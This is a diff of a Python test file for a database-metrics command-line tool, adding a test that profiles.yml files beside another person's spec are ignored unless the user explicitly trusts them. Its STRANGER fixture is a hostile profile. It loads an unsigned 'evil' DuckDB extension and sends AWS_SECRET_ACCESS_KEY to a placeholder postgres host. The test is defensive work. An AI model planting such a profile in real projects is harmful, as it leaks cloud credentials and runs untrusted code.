@@ -192,6 +192,8 @@ def test_profiles_are_looked_for_in_this_order(
     for number, place in enumerate(places):
         profile = f"outputs: {{only: {{type: duckdb, path: at{number}.duckdb}}}}\n"
         (place / "profiles.yml").write_text(profile)
+        if place == folder:
+            monkeypatch.setenv("SQLMETRICS_TRUSTED", str(folder))
         sqlmetrics("run", str(folder / "files.yml"), folder=elsewhere)
     # paths start in the current folder, beside the spec in that of the spec
     assert there(elsewhere) == {"at0.duckdb", "at1.duckdb", "at2.duckdb"}
@@ -199,6 +201,66 @@ def test_profiles_are_looked_for_in_this_order(
     for given in (str(home / ".dbt"), str(home / ".dbt" / "profiles.yml")):
         line = ["check", str(folder / "files.yml"), "--profiles", given]
         assert "target only of" in sqlmetrics(*line, folder=elsewhere).stderr
+
+
+STRANGER = """\
+outputs:
+  evil:
+    type: duckdb
+    path: shop.duckdb
+    extensions: [evil]
+    config_options: {allow_unsigned_extensions: 'true', extension_directory: stranger}
+    attach: [{path: "{{ env_var('AWS_SECRET_ACCESS_KEY') }}"}]
+  lost: {type: duckdb, path: shop.duckdb, attach: [{path: nowhere.duckdb}]}
+  far: {type: postgres, host: nowhere.invalid, user: "{{ env_var('AWS_SECRET_ACCESS_KEY') }}"}
+"""
+
+
+def test_a_profile_beside_a_strangers_spec_wants_consent(
+    folder: Path, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """No word of it is obeyed, nor is another profile taken instead; see docs/security.md."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cr3t")
+    user = tmp_path / "user"
+    (user / "links").mkdir(parents=True)
+    (user / "links" / "fork").symlink_to(folder)
+    (home / ".dbt" / "profiles.yml").write_text(DBT)
+    (folder / "profiles.yml").write_text(STRANGER)
+    fill(folder / "shop.duckdb")
+    for verb, *more in (
+        *(["validate"], ["show"], ["run"], ["check"], ["verify"], ["compile"], ["export", "dbt"]),
+        *(["validate", "--target", "evil"], ["run", "--target", "far"]),
+    ):
+        for spec in (folder / "tables.yml", user / "links" / "fork" / "tables.yml"):
+            line = [verb, *more[:1], str(spec)] if verb == "export" else [verb, str(spec), *more]
+            told = sqlmetrics(*line, folder=user, expect=2).stderr
+            assert f"{spec.parent / 'profiles.yml'} is not read: its folder is neither" in told
+            assert f"--profiles {spec.parent / 'profiles.yml'}" in told
+            assert f"SQLMETRICS_TRUSTED={folder}" in told
+    # what does not ask for a profile needs no consent
+    spec = str(folder / "tables.yml")
+    sqlmetrics("validate", spec, "--db", str(folder / "shop.duckdb"), folder=user)
+    sqlmetrics("compile", spec, "--dialect", "sqlite", folder=user)
+    sqlmetrics("show", str(folder / "files.yml"), folder=user)
+    # who consents is obeyed: it then fails for what the profile says
+    for line, trusted in (
+        ([spec], f"/nowhere{os.pathsep}{folder.parent}"),
+        ([str(user / "links" / "fork" / "tables.yml")], str(folder)),
+        ([spec, "--profiles", str(folder / "profiles.yml")], ""),
+    ):
+        monkeypatch.setenv("SQLMETRICS_TRUSTED", trusted)
+        told = sqlmetrics("validate", *line, "--target", "lost", folder=user, expect=2).stderr
+        assert "there is no database file" in told
+    # a link to one's own profile does not make a stranger's folder one's own
+    monkeypatch.setenv("SQLMETRICS_TRUSTED", str(user))
+    (folder / "profiles.yml").unlink()
+    (folder / "profiles.yml").symlink_to(home / ".dbt" / "profiles.yml")
+    told = sqlmetrics("validate", str(user / "links/fork/tables.yml"), folder=user, expect=2)
+    assert "is not read" in told.stderr
+    # the folder that one stands in is one's own, by whichever name
+    (folder / "profiles.yml").unlink()
+    (folder / "profiles.yml").write_text("outputs: {a: {type: duckdb, path: shop.duckdb}}")
+    sqlmetrics("validate", str(user / "links/fork/tables.yml"), folder=folder)
 
 
 def test_names_of_outputs(folder: Path) -> None:
@@ -217,7 +279,7 @@ def test_names_of_outputs(folder: Path) -> None:
         (["--target", "dev"], "'dev' is in several profiles; give shop.dev, web.dev"),
         (["--target", "prod"], "unknown output 'prod'"),
         ([], "has several profiles; choose by --target: shop.dev, shop.lite, web.dev, web.pg"),
-        (["--target", "x", "--profiles", "no.yml"], "no.yml cannot be read"),
+        (["--target", "x", "--profiles", "no.yml"], "cannot read no.yml"),
     ):
         assert said in sqlmetrics("run", "files.yml", *line, folder=folder, expect=2).stderr
     told = sqlmetrics("run", "files.yml", "--connection", "a:s3cr3t@b", folder=folder, expect=2)
